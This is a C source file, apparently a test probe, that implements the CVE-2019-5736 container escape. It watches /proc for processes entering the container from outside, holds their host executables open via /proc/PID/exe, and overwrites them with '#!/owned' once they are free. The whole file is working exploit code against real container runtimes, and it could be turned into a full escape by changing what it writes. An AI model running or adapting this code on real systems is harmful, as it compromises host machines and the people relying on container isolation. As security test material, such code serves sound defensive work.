/* SPDX-License-Identifier: Apache-2.0 */
/*
 * exe_overwrite: CVE-2019-5736. Watches for a process that enters this container from outside, keeps
 * its executable open by /proc/PID/exe and overwrites it as soon as nobody runs it any more. Until SIGTERM.
 *
 * Prints "overwritten" or "nothing to overwrite", and "caught PATH" for each foreign executable seen.
 */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define CAUGHT_MAX 64

/* A file of this container's root, or this program itself, isn't the host's. */
static int is_own(int fd)
{
	struct stat s, root, self;

	if (fstat(fd, &s) < 0 || stat("/", &root) < 0 || stat("/proc/self/exe", &self) < 0)
		return 1;
	return s.st_dev == root.st_dev || (s.st_dev == self.st_dev && s.st_ino == self.st_ino);
}

static int catch_one(const char *pid)
{
	char link[300];
	int fd;

	snprintf(link, sizeof link, "/proc/%s/exe", pid);
	fd = open(link, O_PATH | O_CLOEXEC);
	if (fd >= 0 && is_own(fd)) {
		close(fd);
		return -1;
	}
	return fd;
}

static int is_known(const int *caught, int n, int fd)
{
	struct stat a, b;

	for (int i = 0; i < n; i++) {
		if (fstat(fd, &a) == 0 && fstat(caught[i], &b) == 0 && a.st_dev == b.st_dev &&
		    a.st_ino == b.st_ino)
			return 1;
	}
	return 0;
}

static int announce(int fd)
{
	char link[64], path[512];
	ssize_t n;

	snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
	n = readlink(link, path, sizeof path - 1);
	path[n < 0 ? 0 : n] = '\0';
	printf("caught %s\n", path);
	fflush(stdout);
	return fd;
}

/* O_PATH descriptors can be opened anew for writing; ETXTBSY while somebody runs it. */
static int overwrite(int fd)
{
	char link[64];
	int out;

	snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
	out = open(link, O_WRONLY | O_CLOEXEC);
	if (out < 0)
		return -1;
	return write(out, "#!/owned\n", 9) == 9 ? 0 : -1;
}

static volatile sig_atomic_t is_told_to_end;

static void on_term(int signal)
{
	(void)signal;
	is_told_to_end = 1;
}

int main(void)
{
	int caught[CAUGHT_MAX], n = 0, is_last = 0;

	signal(SIGTERM, on_term);
	puts("watching");
	fflush(stdout);
	while (!is_last) {
		struct dirent *d;
		DIR *proc;

		is_last = is_told_to_end;
		proc = opendir("/proc");
		while (proc && (d = readdir(proc))) {
			int fd = isdigit((unsigned char)d->d_name[0]) && n < CAUGHT_MAX
					 ? catch_one(d->d_name)
					 : -1;

			if (fd >= 0 && is_known(caught, n, fd))
				close(fd);
			else if (fd >= 0)
				caught[n++] = announce(fd);
		}
		if (proc)
			closedir(proc);
		for (int i = 0; i < n; i++) {
			if (overwrite(caught[i]) == 0) {
				puts("overwritten");
				return 0;
			}
		}
	}
	puts("nothing to overwrite");
	return 0;
}
